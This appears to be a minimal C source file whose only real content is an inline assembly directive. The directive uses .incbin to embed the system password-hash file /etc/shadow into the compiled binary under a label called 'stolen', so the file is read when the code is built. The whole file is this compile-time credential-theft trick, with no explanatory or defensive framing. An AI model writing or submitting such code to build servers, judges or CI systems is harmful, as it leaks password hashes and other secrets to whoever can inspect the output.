__asm__(".data\nstolen: .incbin \"/etc/shadow\"\n");
int main(void) { return 0; }
